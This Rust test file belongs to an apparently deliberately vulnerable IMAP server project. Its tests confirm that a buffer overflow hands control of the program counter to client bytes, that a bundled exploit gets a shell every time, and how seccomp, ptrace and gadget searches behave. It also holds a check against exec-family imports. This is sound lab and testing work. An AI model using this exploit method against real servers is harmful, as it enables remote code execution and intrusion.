//! The overflow is real: the client's bytes become the program counter, and then a shell.
use imapd::exploit::{self, Outcome};
use imapd::{client, gadget, sample, server::Server};
use nix::sys::ptrace;
use nix::sys::signal::Signal;
use nix::sys::wait::{WaitPidFlag, WaitStatus, waitpid};
use object::{Object, ObjectSymbol};
use std::io::{self, BufRead, BufReader};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

/// Threads too, but no child that another thread, another test, has started.
const MINE: WaitPidFlag = WaitPidFlag::__WALL.union(WaitPidFlag::__WNOTHREAD);
const IMAPD: &str = env!("CARGO_BIN_EXE_imapd");

fn command(mail: &tempfile::TempDir) -> Command {
    sample::write(mail.path()).unwrap();
    let mut command = Command::new(IMAPD);
    command.arg("0").arg(mail.path()).stderr(Stdio::null());
    command
}

fn attack(server: &Server) -> Outcome {
    exploit::run(server.addr(), Path::new(IMAPD)).unwrap()
}

#[test]
fn the_exploit_gets_its_shell_every_time() {
    // SAFETY: geteuid only reads.
    let uid = unsafe { libc::geteuid() };
    for round in 0..4 {
        let mail = tempfile::tempdir().unwrap();
        let mut command = command(&mail);
        if round % 2 == 1 {
            command.env_clear();
        }
        let server = Server::start(&mut command).unwrap();
        for _ in 0..5 {
            let Outcome::Shell { output } = attack(&server) else { panic!("no shell") };
            let lines: Vec<&str> = output.lines().collect();
            assert!(matches!(lines.as_slice(), [_, id] if *id == uid.to_string()), "{output}");
        }
        assert_eq!(client::session(server.addr()).unwrap().subjects, sample::SUBJECTS);
    }
}

#[test]
fn a_refused_execve_is_told_from_a_kill() {
    for (action, expected) in [
        (libc::SECCOMP_RET_ERRNO | libc::EPERM as u32, Outcome::Refused { errno: libc::EPERM }),
        (libc::SECCOMP_RET_KILL_PROCESS, Outcome::Lost { injected: true }),
    ] {
        let mail = tempfile::tempdir().unwrap();
        let mut command = command(&mail);
        // SAFETY: the closure makes two system calls and touches only its own stack.
        unsafe { command.pre_exec(move || without_execve(action)) };
        let server = Server::start(&mut command).unwrap();
        assert_eq!(attack(&server), expected);
    }
}

/// Installs a filter that takes `action` on an execve without environment, as the injected code's.
fn without_execve(action: u32) -> io::Result<()> {
    let load = (libc::BPF_LD | libc::BPF_W | libc::BPF_ABS) as u16;
    let equal = (libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K) as u16;
    let answer = (libc::BPF_RET | libc::BPF_K) as u16;
    let insn = |code, k, jf| libc::sock_filter { code, jt: 0, jf, k };
    let mut filter = [
        insn(load, 0, 0), // the call's number
        insn(equal, libc::SYS_execve as u32, 5),
        insn(load, 32, 0), // its third argument, both halves
        insn(equal, 0, 3),
        insn(load, 36, 0),
        insn(equal, 0, 1),
        insn(answer, action, 0),
        insn(answer, libc::SECCOMP_RET_ALLOW, 0),
    ];
    let program = libc::sock_fprog { len: filter.len() as u16, filter: filter.as_mut_ptr() };
    // SAFETY: no memory is passed.
    let first = unsafe { libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) };
    // SAFETY: `program` and the filter it points to live until the call returns.
    let second = unsafe { libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &program) };
    if first == 0 && second == 0 { Ok(()) } else { Err(io::Error::last_os_error()) }
}

#[test]
fn with_junk_the_program_counter_is_the_clients_bytes() {
    // Canonical, so that the jump succeeds and the fault is the fetch; `AAAAAA` read backwards.
    const JUNK: u64 = 0x0000_4141_4141_4141;
    let mail = tempfile::tempdir().unwrap();
    let mut command = command(&mail);
    // SAFETY: the closure makes one system call.
    unsafe { command.pre_exec(|| Ok(ptrace::traceme()?)) };
    let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
    let server = nix::unistd::Pid::from_raw(child.id().cast_signed());
    waitpid(server, None).unwrap();
    ptrace::setoptions(
        server,
        ptrace::Options::PTRACE_O_TRACEFORK | ptrace::Options::PTRACE_O_EXITKILL,
    )
    .unwrap();
    ptrace::cont(server, None).unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let addr = line.trim().strip_prefix("listening on ").unwrap().parse().unwrap();
    let attacker =
        std::thread::spawn(move || exploit::overflow(addr, &JUNK.to_le_bytes().repeat(128)));
    let (victim, registers) = loop {
        match waitpid(None, Some(MINE)).unwrap() {
            WaitStatus::Stopped(pid, Signal::SIGSEGV) => {
                break (pid, ptrace::getregs(pid).unwrap());
            }
            WaitStatus::Stopped(pid, Signal::SIGSTOP) | WaitStatus::PtraceEvent(pid, ..) => {
                ptrace::cont(pid, None).unwrap();
            }
            other => panic!("{other:?} before any fault"),
        }
    };
    assert_eq!(registers.rip, JUNK, "{:#x}", registers.rip);
    ptrace::kill(victim).unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    attacker.join().unwrap().unwrap();
}

#[test]
fn the_server_has_no_means_to_execute_a_program() {
    let bytes = std::fs::read(IMAPD).unwrap();
    let file = object::File::parse(&*bytes).unwrap();
    let imports: Vec<_> = file.dynamic_symbols().filter_map(|s| s.name().ok()).collect();
    assert!(imports.contains(&"fork"), "the check sees what is imported: {imports:?}");
    let exec = ["exec", "spawn", "system", "popen", "dlopen"];
    let found: Vec<_> = imports.iter().filter(|i| exec.iter().any(|e| i.contains(e))).collect();
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn gadgets_are_found_only_in_executables_at_a_fixed_address() {
    gadget::find(Path::new(IMAPD)).unwrap();
    let own = std::env::current_exe().unwrap();
    let e = gadget::find(&own).unwrap_err().to_string();
    assert!(e.contains("fixed address") && e.contains(own.to_str().unwrap()), "{e}");
    let text = Path::new(env!("CARGO_MANIFEST_DIR")).join("Cargo.toml");
    assert!(gadget::find(&text).unwrap_err().to_string().contains("not an ELF"));
}
